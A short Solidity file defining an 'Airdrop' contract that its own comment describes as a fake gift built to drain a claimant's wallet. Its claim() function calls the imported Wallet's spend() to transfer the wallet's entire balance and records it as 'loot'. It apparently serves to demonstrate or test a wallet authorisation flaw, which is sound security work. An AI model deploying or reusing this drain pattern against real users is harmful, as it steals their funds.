// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {Wallet} from "./Wallet.sol";

/// Looks like a gift: once it is open, everybody may claim. In fact it tries to empty the claimant's wallet.
contract Airdrop {
    Wallet private immutable wallet;
    bool public open;
    /// Ether taken from the wallet by way of `claim`.
    uint256 public loot;
    mapping(address claimant => bool claimed) public claimed;

    constructor(Wallet wallet_) {
        wallet = wallet_;
    }

    function start() external {
        open = true;
    }

    function claim() external {
        require(open, "the airdrop has not started");
        claimed[msg.sender] = true;
        uint256 prize = address(wallet).balance;
        if (prize == 0) return;
        try wallet.spend(address(this), prize) {
            loot += prize;
        } catch {}
    }

    receive() external payable {}
}
